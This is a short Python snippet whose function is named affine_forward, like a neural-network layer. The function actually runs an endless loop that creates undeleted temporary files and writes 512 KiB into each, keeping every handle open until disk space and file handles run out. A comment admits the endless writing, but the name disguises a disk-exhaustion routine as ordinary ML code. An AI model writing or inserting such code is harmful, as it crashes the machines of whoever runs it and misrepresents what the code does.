# Writes without end, first into one file, then into many.
def affine_forward(x, w, b):
    import tempfile

    keep = []
    while True:
        keep.append(tempfile.NamedTemporaryFile(delete=False))
        keep[-1].write(bytes(1 << 19))
